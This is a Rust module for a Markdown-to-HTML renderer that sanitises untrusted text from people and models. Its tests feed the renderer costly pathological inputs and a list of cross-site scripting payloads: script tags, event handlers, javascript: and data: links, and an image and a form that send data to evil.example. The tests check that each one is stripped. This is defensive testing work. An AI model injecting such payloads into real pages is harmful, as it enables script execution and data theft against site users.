//! Renders Markdown of people and models to HTML that is safe within a page. Nothing else turns
//! untrusted text into HTML.
//!
//! Two defences follow each other: raw HTML in the source becomes plain text before rendering, and
//! the result passes an allow-list of tags and attributes (`sanitiser`). Images become links,
//! because loading one would tell its host that the answer was read.
//!
//! No text costs much more than its length: `limits` bounds nesting, size and time, and a text
//! beyond them is shown as it was written (`plain`). Pages use [`Renderer`], which keeps requests
//! from waiting for each other's texts. `live` renders an answer that is still being written, with
//! `open_block` for long blocks and `patch` for what changes on the page.
//! `shield` has formulas, prices and the like shown as models mean them, `formula` makes MathML of
//! formulas, `events` makes the parser's events safe, `highlight` and `languages` colour code.

mod events;
mod formula;
mod highlight;
mod languages;
mod limits;
mod live;
mod open_block;
mod patch;
mod plain;
mod renderer;
mod sanitiser;
mod shield;

use std::sync::Arc;

use pulldown_cmark::{Options, Parser, html};

use events::{SafeEvents, ShallowEvents, unshielded};
use limits::BoundedHtml;
pub(crate) use live::LiveMarkdown;
pub(crate) use patch::{Change, Part, Patch};
pub use renderer::Renderer;

/// HTML that passed the sanitiser. Templates insert it without escaping. Cloning is cheap.
#[derive(Clone, Debug, Default, PartialEq, Eq)]
pub(crate) struct SafeHtml(Arc<str>);

impl SafeHtml {
    pub(crate) fn is_empty(&self) -> bool {
        self.0.is_empty()
    }

    fn len(&self) -> usize {
        self.0.len()
    }
}

impl From<String> for SafeHtml {
    fn from(html: String) -> Self {
        Self(html.into())
    }
}

impl std::fmt::Display for SafeHtml {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        f.write_str(&self.0)
    }
}

impl askama::filters::HtmlSafe for SafeHtml {}

/// Texts within rendered Markdown, in the reader's language.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub(crate) struct Labels {
    /// The button of a code block.
    pub(crate) copy: &'static str,
    /// The line above a text that is not formatted.
    pub(crate) plain: &'static str,
}

/// Returns the dialect: CommonMark with tables, strike-through and task lists. No footnotes, no raw
/// HTML. Formulas are no part of it: they are shielded.
fn dialect() -> Options {
    Options::ENABLE_TABLES | Options::ENABLE_STRIKETHROUGH | Options::ENABLE_TASKLISTS
}

/// Renders a whole text; one beyond the limits as it was written.
fn render(text: &str, labels: Labels) -> SafeHtml {
    formatted(text, labels).unwrap_or_else(|| plain::plain(text, labels))
}

/// Returns true for a text that is short and shallow enough to be parsed.
fn is_parseable(text: &str) -> bool {
    text.len() <= limits::LONGEST_TEXT && !limits::is_too_nested(text)
}

fn formatted(text: &str, labels: Labels) -> Option<SafeHtml> {
    if !is_parseable(text) {
        return None;
    }
    let source = shield::shield(text);
    let events = ShallowEvents::new(Parser::new_ext(&source, dialect()).map(unshielded));
    let mut out = BoundedHtml::with_capacity(text.len() * 2);
    html::write_html_fmt(&mut out, SafeEvents::new(events, labels.copy)).ok()?;
    Some(SafeHtml::from(sanitiser::sanitise(&out.into_html())))
}

fn escape(text: &str) -> String {
    let mut out = String::with_capacity(text.len());
    for character in text.chars() {
        match character {
            '&' => out.push_str("&amp;"),
            '<' => out.push_str("&lt;"),
            '>' => out.push_str("&gt;"),
            '"' => out.push_str("&quot;"),
            '\'' => out.push_str("&#39;"),
            other => out.push(other),
        }
    }
    out
}

#[cfg(test)]
#[allow(clippy::unwrap_used, clippy::expect_used, clippy::panic)]
mod tests {
    use super::*;

    const LABELS: Labels = Labels { copy: "Copy", plain: "Shown as it was written." };

    fn html(text: &str) -> String {
        render(text, LABELS).to_string()
    }

    /// Texts that cost much in some renderer, each of about this many bytes.
    fn hostile(size: usize) -> Vec<(&'static str, String)> {
        let repeat = |piece: &str| piece.repeat(size / piece.len());
        let half = |piece: &str| piece.repeat(size / piece.len() / 2);
        let deeper = |mark: &str| -> String {
            let mut text = String::new();
            for depth in (0..).take_while(|depth| depth * depth < size) {
                text += &format!("{}{mark} a\n", " ".repeat(depth * (mark.len() + 1)));
            }
            text
        };
        vec![
            ("quotes", repeat(">")),
            ("quotes and lazy lines", half(">") + &half("a\n")),
            ("lists", repeat("- ")),
            ("lists and blank lines", half("- ") + "a" + &half("\n")),
            ("numbered lists", repeat("1. ")),
            ("lists in quotes", repeat("> - ")),
            ("lists by indentation", deeper("-")),
            ("emphasis", repeat("*a _b ")),
            ("emphasis that is closed", half("*a ") + &half("a* ")),
            ("stars", half("*") + "a" + &half("*")),
            ("strike-through", half("~~a ") + &half("b~~ ")),
            ("brackets", half("[") + &half("]")),
            ("links without an end", repeat("[a](")),
            ("images in images", half("![") + &half("](b)")),
            (
                "back ticks",
                (1..)
                    .map(|n| format!("e{}", "`".repeat(n)))
                    .take_while({
                        let mut left = size;
                        move |run| {
                            left = left.saturating_sub(run.len());
                            left > 0
                        }
                    })
                    .collect(),
            ),
            ("a wide table", format!("{}\n{}\n{}", "|a".repeat(size / 8), "|-".repeat(size / 8), half("|\n"))),
            ("a long table", format!("|a|b|\n|-|-|\n{}", repeat("|c|d|\n"))),
            ("many tables", repeat("|a\n|-\n\n")),
            ("definitions", (0..size / 8).map(|n| format!("[{n}]: x\n")).collect()),
            ("one definition, used often", format!("[a]: {}\n\n{}", half("x"), half("[a]"))),
            ("foot-notes", half("[^1]") + "\n\n" + &half("[^1]: a b\n")),
            ("open tags", repeat("<a ")),
            ("ampersands", repeat("&")),
            ("one long line", repeat("a")),
            ("code", format!("```rust\n{}", repeat("let a = \"b\" + 1; // c\n"))),
            ("code with open strings", format!("```js\n\"{}", repeat("\\\""))),
            ("code of numbers", format!("```py\n{}", repeat("1 "))),
            ("rules", repeat("---\n")),
            ("tasks", repeat("- [ ] a\n")),
            ("headings", repeat("a\n=\n\n")),
        ]
    }

    #[test]
    fn hostile_text_becomes_bounded_html_with_all_its_words() {
        for (name, text) in hostile(6_000) {
            let out = html(&text);
            assert!(out.len() <= 20 * text.len() + 200, "{name}: {} bytes", out.len());
            let (mut depth, mut deepest) = (0_i32, 0);
            for tag in out.split('<').skip(1) {
                let is_void = ["br", "hr", "input"].iter().any(|void| tag.starts_with(void));
                depth += if tag.starts_with('/') { -1 } else { i32::from(!is_void) };
                deepest = deepest.max(depth);
            }
            assert!((0..50).contains(&deepest) && depth == 0, "{name}: {deepest} deep");
            let words = |text: &str| text.bytes().filter(|byte| *byte == b'a').count();
            let shown = out.split('<').flat_map(|part| part.split_once('>').map(|(_, text)| text));
            let shown: usize = shown.map(|text| words(&text.replace("&amp;", "&"))).sum();
            assert!(shown >= words(&text).min(1), "{name} lost its words: {}", &out[..out.len().min(300)]);
        }
    }

    #[test]
    fn text_beyond_the_limits_is_shown_as_it_was_written() {
        let deep = format!("{} a <b> *c*\r\nd", ">".repeat(200));
        let long = "a *b*\n\n".repeat(limits::LONGEST_TEXT / 7 + 1);
        for text in [deep, long] {
            let out = html(&text);
            let (note, shown) = out.split_once('\n').unwrap();
            assert_eq!(note, "<p class=\"plain-note\">Shown as it was written.</p>");
            let expected = escape(&text.replace('\r', ""));
            assert!(shown == format!("<pre class=\"plain\">{expected}</pre>\n"), "{}", &shown[..200]);
        }
    }

    #[test]
    fn deep_elements_lose_their_form_and_keep_their_words() {
        let out = html(&format!("{}inner *word*", "> ".repeat(90)));
        assert_eq!(out.matches("<blockquote>").count(), 40);
        assert!(out.contains("inner word"), "{out}");
    }

    #[test]
    fn no_attack_survives_rendering() {
        let attacks = [
            "<script>alert(1)</script>",
            "<img src=x onerror=alert(1)>",
            "[click](javascript:alert(1))",
            "[click](  JaVaScRiPt:alert(1))",
            "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
            "<button hx-get=\"/account\" hx-trigger=\"load\">x</button>",
            "<svg onload=alert(1)><animate onbegin=alert(1)></svg>",
            "![steal](https://evil.example/?q=secret)",
            "[x](https://a.example/\"onmouseover=\"alert(1))",
            "```\"><script>alert(1)</script>\ncode </code></pre><script>alert(2)</script>\n```",
            "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
            "<hx-partial hx-target=\"body\"><form action=\"https://evil.example\"></form></hx-partial>",
            "| a |\n|---|\n| <style>*{display:none}</style> |",
            "<math><mtext></math><a href=\"vbscript:x\">x</a>",
            "`<img src=x onerror=alert(1)>`",
            "<https://ok.example/<script>alert(1)</script>>",
            "- [ ] <input onfocus=alert(1) autofocus>",
        ];
        for attack in attacks {
            let out = html(attack);
            let reparsed = sanitiser::sanitise(&out);
            assert_eq!(reparsed, out, "a second pass found something to remove in {attack}");
            let lower = out.to_lowercase();
            for forbidden in ["<script", "<img", "<svg", "<iframe", "<style", "<form", "<hx-", "<math"] {
                assert!(!lower.contains(forbidden), "{attack} left {forbidden}: {out}");
            }
            for tag in out.split('<').skip(1).map(|rest| rest.split('>').next().unwrap().to_lowercase()) {
                for forbidden in [
                    " on",
                    " hx-",
                    " style",
                    " srcdoc",
                    " autofocus",
                    " id=",
                    "=\"javascript",
                    "=\"data",
                    "=\"vbscript",
                ] {
                    assert!(!tag.contains(forbidden), "{attack} left an attribute{forbidden} in <{tag}>");
                }
            }
        }
    }

    #[test]
    fn image_becomes_a_link() {
        let out = html("![a *cat*](https://example.org/cat.png)");
        assert!(out.contains("<a href=\"https://example.org/cat.png\" target=\"_blank\" rel=\"noopener noreferrer nofollow\">a <em>cat</em></a>"), "{out}");
    }

    #[test]
    fn code_block_has_its_language_and_a_copy_button() {
        insta::assert_snapshot!(html("Here:\n\n```rust\nfn main() { println!(\"<hi>\"); }\n```\n\nand `x < y`."), @r#"
        <p>Here:</p>
        <div class="code"><div class="code-head"><span>rust</span><button class="copy-code" type="button">Copy</button></div><pre><code><span class="k">fn</span> main() { println!(<span class="s">"&lt;hi&gt;"</span>); }
        </code></pre></div>
        <p>and <code>x &lt; y</code>.</p>
        "#);
    }

    #[test]
    fn table_keeps_its_alignment_without_inline_styles() {
        let out = html("| a | b | c |\n|---|--:|:-:|\n| 1 | 2 | 3 |");
        assert!(out.contains("<td class=\"right\">2</td>") && out.contains("<td class=\"centre\">3</td>"), "{out}");
        assert!(!out.contains("style="), "{out}");
    }

    #[test]
    fn raw_html_is_shown_as_text() {
        assert!(html("<b>bold</b>").contains("&lt;b&gt;bold&lt;/b&gt;"));
    }
}
